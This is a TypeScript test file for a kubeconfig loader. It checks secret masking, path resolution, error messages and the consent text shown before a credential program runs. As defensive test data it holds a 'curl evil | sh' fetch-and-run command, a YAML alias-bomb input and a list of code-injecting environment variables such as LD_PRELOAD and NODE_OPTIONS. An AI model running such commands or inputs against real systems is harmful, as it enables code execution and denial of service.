import assert from "node:assert/strict";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadKubeconfig } from "../../../src/cluster/kubeconfig/kubeconfig.ts";
import { describeConsent, describeProgram } from "../../../src/cluster/kubeconfig/credentialProgram.ts";
import { MooringError } from "../../../src/support/errors.ts";

let folder: string;
before(async () => {
  folder = await mkdtemp(join(tmpdir(), "mooring-kubeconfig-"));
});
after(() => rm(folder, { recursive: true, force: true }));

async function file(name: string, text: string): Promise<string> {
  const path = join(folder, name);
  await writeFile(path, text);
  return path;
}

const badInput =
  (...words: (string | RegExp)[]) =>
  (error: unknown) => {
    assert.ok(MooringError.is(error, "badInput"), String(error));
    for (const word of words)
      assert.match(
        error.message,
        typeof word === "string" ? new RegExp(word.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")) : word,
      );
    return true;
  };

const first = `
current-context: dev
clusters:
- {name: one, cluster: {server: "https://one.example:6443/", certificate-authority: pki/ca.crt}}
- {name: plain, cluster: {server: "http://127.0.0.1:8001"}}
- {name: broken, cluster: {}}
users:
- name: ann
  user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: aws, args: [eks, get-token, "--secret=hunter22"]}}
- {name: tool, user: {exec: {apiVersion: v1, command: ./bin/login}, tokenFile: run/token}}
contexts:
- {name: dev, context: {cluster: one, user: ann, namespace: shop}}
- {name: local, context: {cluster: plain, user: tool}}
- {name: no-server, context: {cluster: broken, user: ann}}
- {name: no-user, context: {cluster: one, user: nobody}}
`;

describe("program of a context, for people", () => {
  const rows: [string, string[], string][] = [
    ["aws", ["eks", "get-token", "--cluster-name", "prod"], "aws eks get-token --cluster-name prod"],
    ["kubelogin", ["--client-secret", "hunter22", "--oidc-token=x"], "kubelogin --client-secret *** --oidc-token=***"],
    ["sh", ["-c", "curl evil | sh\n"], 'sh -c "curl evil | sh\\n"'],
    ["my tool", [""], '"my tool" ""'],
  ];
  for (const [command, args, text] of rows) it(text, () => assert.equal(describeProgram({ command, args }), text));
});

describe("kubeconfig", () => {
  it("tells each context, its program without secrets, and whether it is insecure", async () => {
    const config = await loadKubeconfig({ files: [await file("first", first)] });
    assert.equal(config.currentContext, "dev");
    const [dev, local] = config.contexts;
    assert.deepEqual(dev, {
      name: "dev",
      cluster: "one",
      namespace: "shop",
      server: "https://one.example:6443",
      runsProgram: "aws eks get-token --secret=***",
      isInsecure: false,
    });
    assert.deepEqual([local?.namespace, local?.isInsecure], ["default", true]);
  });

  it("the first file wins, for entries and for the current context; a missing file among others is skipped", async () => {
    const a = await file(
      "a",
      "clusters: [{name: c, cluster: {server: https://a}}]\ncontexts: [{name: x, context: {cluster: c}}]\n",
    );
    const b = await file(
      "b",
      "current-context: y\nclusters: [{name: c, cluster: {server: https://b}}]\ncontexts: [{name: x, context: {cluster: c, namespace: b}}, {name: y, context: {cluster: c}}]\n",
    );
    const config = await loadKubeconfig({ files: [join(folder, "missing"), a, b] });
    assert.equal(config.currentContext, "y");
    const x = config.contexts.find(({ name }) => name === "x");
    assert.deepEqual([x?.server, x?.namespace], ["https://a", "default"]);
    assert.equal(config.open("y").cluster.server, "https://a");
  });

  it("paths are relative to the file that names them; a bare command is left to PATH", async () => {
    const config = await loadKubeconfig({ files: [await file("first", first)] });
    assert.equal(config.open("dev").cluster.authority.path, join(folder, "pki/ca.crt"));
    assert.equal(config.open("dev").user.exec?.command, "aws");
    assert.equal(config.open("local").user.exec?.command, join(folder, "bin/login"));
    assert.equal(config.open("local").user.tokenFile, join(folder, "run/token"));
  });

  it("an entry without a server spoils only the contexts that use it", async () => {
    const path = await file("first", first);
    const config = await loadKubeconfig({ files: [path] });
    assert.throws(() => config.open("no-server"), badInput("no-server", path, "broken"));
    assert.throws(() => config.open("no-user"), badInput("no-user", "nobody"));
    assert.throws(() => config.open("nope"), badInput("nope", path, "dev"));
    assert.ok(config.open("dev"));
  });

  const broken: [string, string, RegExp][] = [
    ["broken YAML", "clusters:\n  - {name: [\n    token: canary-token", /line \d+/],
    ["a list", "- a\n- b\n", /mapping/],
    [
      "an alias bomb",
      `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d]\n`,
      /aliases/,
    ],
  ];
  for (const [name, text, why] of broken) {
    it(`${name} is an error that names the file and quotes nothing`, async () => {
      const path = await file("broken", text);
      await assert.rejects(
        loadKubeconfig({ files: [path] }),
        (error: Error) => badInput(path, why)(error) && !error.message.includes("canary"),
      );
    });
  }

  it("an empty file has no contexts", async () => {
    assert.deepEqual((await loadKubeconfig({ files: [await file("empty", "")] })).contexts, []);
  });

  it("no file at all is told with its path", async () => {
    await assert.rejects(loadKubeconfig({ files: [join(folder, "none")] }), badInput(join(folder, "none")));
    await assert.rejects(loadKubeconfig({ files: [folder] }), badInput(folder));
    await assert.rejects(loadKubeconfig({ files: [] }), badInput("KUBECONFIG"));
  });

  it("keys of the prototype are names like others", async () => {
    const config = await loadKubeconfig({
      files: [
        await file(
          "proto",
          "clusters: [{name: __proto__, cluster: {server: https://p}}]\ncontexts: [{name: constructor, context: {cluster: __proto__}}]\n",
        ),
      ],
    });
    assert.equal(config.open("constructor").cluster.server, "https://p");
    assert.throws(() => config.open("toString"), badInput("toString"));
  });

  it("tokens and keys do not show when settings are printed", async () => {
    const data = Buffer.from("-----BEGIN KEY----- canary").toString("base64");
    const config = await loadKubeconfig({
      files: [
        await file(
          "secret",
          `clusters: [{name: c, cluster: {server: https://a}}]\nusers: [{name: u, user: {token: canary-token, client-key-data: ${data}}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\n`,
        ),
      ],
    });
    assert.ok(!JSON.stringify(config.open("x")).includes("canary"));
  });
});

describe("what a person agrees to before a program signs in", () => {
  const program = { command: "aws", args: ["eks", "get-token"], env: [] };
  const given = (...env: readonly (readonly [string, string])[]): string => describeConsent({ ...program, env });

  it("is the program alone where it gets no environment", () => assert.equal(given(), "aws eks get-token"));

  it("names the environment by name and value, but for secrets", () => {
    assert.equal(
      given(["AWS_PROFILE", "prod"], ["X", "a b"], ["AWS_SECRET_ACCESS_KEY", "s3"]),
      'AWS_PROFILE=prod X="a b" AWS_SECRET_ACCESS_KEY=*** aws eks get-token',
    );
  });

  for (const name of [
    "PATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "NODE_OPTIONS",
    "PYTHONPATH",
    "BASH_ENV",
    "GIT_SSH_COMMAND",
    "Path",
    "HTTPS_PROXY",
  ])
    it(`points out ${name}`, () =>
      assert.match(given(["A", "1"], [name, "/x"]), new RegExp(`\nIt sets ${name}, which may run other code\\.$`)));

  it("is another thing once a name or a value changes, so that it is asked again", () => {
    const texts = [
      given(),
      given(["A", "1"]),
      given(["A", "2"]),
      given(["B", "1"]),
      given(["A", "1"], ["B", "1"]),
      given(["A", "1 B=1"]),
    ];
    assert.equal(new Set(texts).size, texts.length);
  });
});

describe("a kubeconfig as tools write it", () => {
  const written = (scalar: string, more: string): string => `apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: LS0tLS1CRUdJTg==
    server: https://one.example:6443
  name: one
contexts:
- context:
    cluster: one
    namespace: ${scalar}
    user: ann
  name: first
- context:
    cluster: one
    user: ann
  name: ${scalar}
current-context: ${scalar}
kind: Config
preferences: {}
users:
- name: ann
  user:
    token: ${scalar}
${more}`;

  for (const scalar of [
    ..."first team-on prod.no 'yes' \"on\" yes Off n y true null ~ 017 0o17 0x1F 1e3 1_000 .5 12:30 2026-01-01".split(
      " ",
    ),
    "12345678901234567890",
    "two words",
    '"tab\\t and \\u00e9"',
  ]) {
    it(`gives the same with and without the full parser: ${scalar}`, async () => {
      const plain = await file("plain", written(scalar, ""));
      const full = await file("full", written(scalar, "extra: &anchor {}\n"));
      const read = async (path: string) => {
        const { contexts, currentContext } = await loadKubeconfig({ files: [path] });
        return { contexts, currentContext };
      };
      assert.deepEqual(await read(plain), await read(full));
    });
  }
});
